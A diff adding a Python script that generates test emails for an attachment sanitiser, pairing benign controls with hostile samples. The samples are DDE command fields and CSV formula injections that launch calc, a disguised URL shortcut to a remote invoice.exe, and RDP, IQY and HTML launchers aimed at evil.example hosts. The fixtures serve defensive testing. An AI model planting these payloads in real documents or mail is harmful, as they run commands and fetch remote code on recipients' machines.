@@ -1,0 +1,81 @@
+#!/usr/bin/env python3
+"""Generates samples/deny/: default-deny cases (issue 17), written from the
+hostile review's class descriptions, not from mugai's code, with benign
+controls that must arrive usable.
+
+Run from the repository root: python3 samples/make_deny.py
+Anything that would run or fetch when opened is written text-encoded
+(<name>.eml.in.zip). Expected verdicts: UPDATE_GOLDEN=1 cargo test, then
+review every change.
+"""
+import hashlib, struct
+
+from mailgen import EOL, attachment, multipart, text_part, write
+
+BODY = "お世話になっております。\n先日の会議の資料です。ご確認ください。\n"
+
+
+def mail(subject, name, data, ctype="application/octet-stream"):
+    head = (f"From: Tanaka Taro <tanaka@example.lg.jp>{EOL}To: suzuki@city.example.lg.jp{EOL}"
+            f"Subject: {subject}{EOL}Date: Mon, 07 Dec 2026 09:30:00 +0900{EOL}"
+            f"Message-ID: <{hashlib.sha256(name.encode()).hexdigest()[:12]}@example.lg.jp>{EOL}"
+            f"MIME-Version: 1.0{EOL}")
+    return multipart(head, [text_part(BODY), attachment(name, data, ctype)])
+
+
+# Office formats that are XML, not zip or OLE: no declaration needed.
+WORD2003 = ("<?mso-application progid=\"Word.Document\"?>\n"
+            "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">"
+            "<w:body><w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'>"
+            "<w:r><w:t>資料</w:t></w:r></w:fldSimple></w:p></w:body></w:wordDocument>\n")
+write("deny", "word2003_xml_dde_named_doc.eml", mail("word 2003 xml", "資料.doc", WORD2003.encode()), dangerous=True)
+
+FLAT_OPC = ("<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
+            "<pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"application/vnd.ms-office.vbaProject\">"
+            "<pkg:binaryData>0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAAPgADAP7/CQAGAAAAAAAAAAAAAAAB</pkg:binaryData>"
+            "</pkg:part></pkg:package>\n")
+write("deny", "flat_opc_vba_named_xml.eml", mail("flat opc", "report.xml", FLAT_OPC.encode()), dangerous=True)
+
+EXCEL2003 = ("<?xml version=\"1.0\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
+             "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"S\"><Table><Row>"
+             "<Cell ss:Formula=\"=cmd|' /c calc'!A0\"><Data ss:Type=\"Number\">0</Data></Cell>"
+             "</Row></Table></Worksheet></Workbook>\n")
+write("deny", "excel2003_xml_dde.eml", mail("excel 2003 xml", "集計.xls", EXCEL2003.encode()), dangerous=True)
+
+# Markup in UTF-16 with a BOM: sniffed as nothing it knows.
+HTML16 = "\ufeff<html><body><script>location='https://evil.example/'</script>請求書</body></html>".encode("utf-16-le")
+write("deny", "html_utf16le_bom.eml", mail("utf-16 html", "invoice.html", HTML16, "text/html"), dangerous=True)
+
+# Spreadsheet formulas in text, whatever the name and line ends.
+write("deny", "csv_dde_named_txt.eml",
+      mail("csv as txt", "list.txt", b"name,amount\r\n=cmd|'/c calc'!A0,1\r\n"), dangerous=True)
+write("deny", "csv_dde_cr_only.eml",
+      mail("csv cr only", "list.csv", b"name,amount\r=cmd|'/c calc'!A0,1\r"), dangerous=True)
+write("deny", "csv_dde_quoted_comma.eml",
+      mail("csv quoted", "list.csv", b"name,cmd\n\"a\",\"=cmd|'/c calc,x'!A0\"\n"), dangerous=True)
+
+# Launchers by content, under names no extension list holds.
+write("deny", "url_shortcut_named_txt.eml",
+      mail("shortcut", "資料.txt", b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"),
+      dangerous=True)
+write("deny", "website_shortcut.eml",
+      mail("website", "portal.website",
+           b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=https://evil.example/\r\n"),
+      dangerous=True)
+write("deny", "rdp_file.eml",
+      mail("rdp", "会議.rdp", b"screen mode id:i:2\r\nfull address:s:rdp.evil.example\r\n"), dangerous=True)
+write("deny", "iqy_web_query.eml",
+      mail("iqy", "data.iqy", b"WEB\r\n1\r\nhttps://evil.example/q.html\r\n"), dangerous=True)
+
+# Wrappers mugai does not open: TNEF and zstd magic numbers, then bytes.
+TNEF = struct.pack("<IH", 0x223E9F78, 1) + bytes(range(64))
+write("deny", "tnef_winmail_dat.eml", mail("tnef", "winmail.dat", TNEF, "application/ms-tnef"), dangerous=True)
+ZSTD = b"\x28\xb5\x2f\xfd" + bytes(range(64))
+write("deny", "zstd_stream.eml", mail("zstd", "logs.tar.zst", ZSTD), dangerous=True)
+
+# Benign controls: these arrive as they came.
+write("deny", "control_text_with_bracket_heading.eml",
+      mail("control text", "お知らせ.txt", "<お知らせ>\n会議は 3 時からです。\n[会議室]\nURL: https://example.lg.jp/\n".encode("utf-8"),
+           "text/plain; charset=utf-8"))
+write("deny", "control_csv_with_formulas.eml",
+      mail("control csv", "集計.csv", "品目,金額\n用紙,1200\n合計,=SUM(B2:B2)\n".encode("utf-8"), "text/csv"))
